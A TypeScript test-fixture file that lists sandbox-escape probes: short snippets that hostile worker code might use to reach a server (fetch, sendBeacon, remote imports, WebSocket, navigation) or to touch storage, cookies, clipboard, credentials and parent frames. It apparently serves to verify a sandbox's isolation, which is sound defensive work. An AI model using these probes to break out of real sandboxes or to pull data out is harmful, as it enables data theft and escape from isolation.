// What hostile task code might try from inside a worker, each as the body of an async function that is given
// the address of a server. Whoever gets out says `reached`, or the server sees it; everything else is well.

/** Towards a server. */
export const network: Readonly<Record<string, string>> = {
  fetch: `await fetch(url); return 'reached'`,
  'fetch without cors': `await fetch(url, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }); return 'reached'`,
  XMLHttpRequest: `const request = new XMLHttpRequest(); request.open('GET', url, false); request.send(); return 'reached'`,
  WebSocket: `const socket = new WebSocket(url.replace('http', 'ws'))
    return new Promise((resolve, reject) => { socket.onopen = () => resolve('reached'); socket.onerror = () => reject(new Error('closed')) })`,
  WebSocketStream: `await new WebSocketStream(url.replace('http', 'ws')).opened; return 'reached'`,
  EventSource: `const source = new EventSource(url)
    return new Promise((resolve, reject) => { source.onopen = () => resolve('reached'); source.onerror = () => reject(new Error('closed')) })`,
  WebTransport: `await new WebTransport(url.replace('http:', 'https:')).ready; return 'reached'`,
  importScripts: `importScripts(url + '/script.js'); return 'reached'`,
  'import of an address': `await import(url + '/module.js'); return 'reached'`,
  'import of a blob that imports': `await import(URL.createObjectURL(new Blob(['import "' + url + '/module.js"'], { type: 'text/javascript' }))); return 'reached'`,
  'import of data that imports': `await import('data:text/javascript,import "' + url + '/module.js"'); return 'reached'`,
  'a worker from an address': `const worker = new Worker(url + '/worker.js')
    return new Promise((resolve, reject) => { worker.onmessage = () => resolve('reached'); worker.onerror = () => reject(new Error('did not start')) })`,
  'a worker within that fetches': `const script = 'fetch("' + url + '").then(() => postMessage("reached"), () => postMessage("blocked"))'
    const worker = new Worker(URL.createObjectURL(new Blob([script])))
    return new Promise((resolve, reject) => { worker.onmessage = ({ data }) => resolve(data); worker.onerror = () => reject(new Error('did not start')) })`,
  'a shared worker': `new SharedWorker(url + '/worker.js'); return 'started'`,
  'a service worker': `await navigator.serviceWorker.register(url + '/worker.js'); return 'reached'`,
  sendBeacon: `return navigator.sendBeacon(url, 'x') ? 'reached' : 'refused'`,
  'a font': `await new FontFace('f', 'url(' + url + '/font.woff)').load(); return 'reached'`,
  'compiling while it streams': `await WebAssembly.compileStreaming(fetch(url + '/module.wasm')); return 'reached'`,
  RTCPeerConnection: `new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + new URL(url).host }] }); return 'reached'`,
  'navigating itself': `location.href = url; return location.href.startsWith(url) ? 'reached' : 'stayed'`,
  'navigating by replace': `location.replace(url); return 'reached'`,
  'opening a window': `open(url); return 'reached'`,
  'a client’s window': `await clients.openWindow(url); return 'reached'`,
  'background fetch': `await registration.backgroundFetch.fetch('x', [url]); return 'reached'`,
}

/** Towards what this origin or this browser keeps, and whoever else is there. */
export const surroundings: Readonly<Record<string, string>> = {
  indexedDB: `const opening = indexedDB.open('stolen')
    return new Promise((resolve, reject) => { opening.onsuccess = () => resolve('reached'); opening.onerror = () => reject(opening.error) })`,
  caches: `await caches.open('stolen'); return 'reached'`,
  'the private file system': `await navigator.storage.getDirectory(); return 'reached'`,
  'the old file system': `webkitRequestFileSystemSync(0, 1024); return 'reached'`,
  localStorage: `localStorage.setItem('stolen', 1); return 'reached'`,
  sessionStorage: `sessionStorage.setItem('stolen', 1); return 'reached'`,
  cookies: `document.cookie = 'stolen=1'; return 'reached'`,
  'the cookie store': `await cookieStore.set('stolen', '1'); return 'reached'`,
  locks: `await navigator.locks.request('murmuration/identity/0', { ifAvailable: true }, () => {}); return 'reached'`,
  BroadcastChannel: `const channel = new BroadcastChannel('app'); channel.postMessage('stolen'); return 'said it'`,
  Notification: `new Notification('stolen'); return Notification.permission === 'granted' ? 'reached' : 'refused'`,
  'the page’s document': `return document.title ? 'reached' : 'none'`,
  parent: `return parent.location.href ? 'reached' : 'none'`,
  top: `top.location = url; return 'reached'`,
  opener: `return opener.document ? 'reached' : 'none'`,
  'messages to the page': `parent.postMessage('forged', '*'); return 'reached'`,
  'devices over usb': `await navigator.usb.getDevices(); return 'reached'`,
  'the serial port': `await navigator.serial.getPorts(); return 'reached'`,
  'where it is': `navigator.geolocation.getCurrentPosition(() => {}); return 'reached'`,
  clipboard: `await navigator.clipboard.readText(); return 'reached'`,
  credentials: `await navigator.credentials.get({ password: true }); return 'reached'`,
  'its own origin': `return origin === 'null' ? 'nobody’s' : 'reached'`,
}
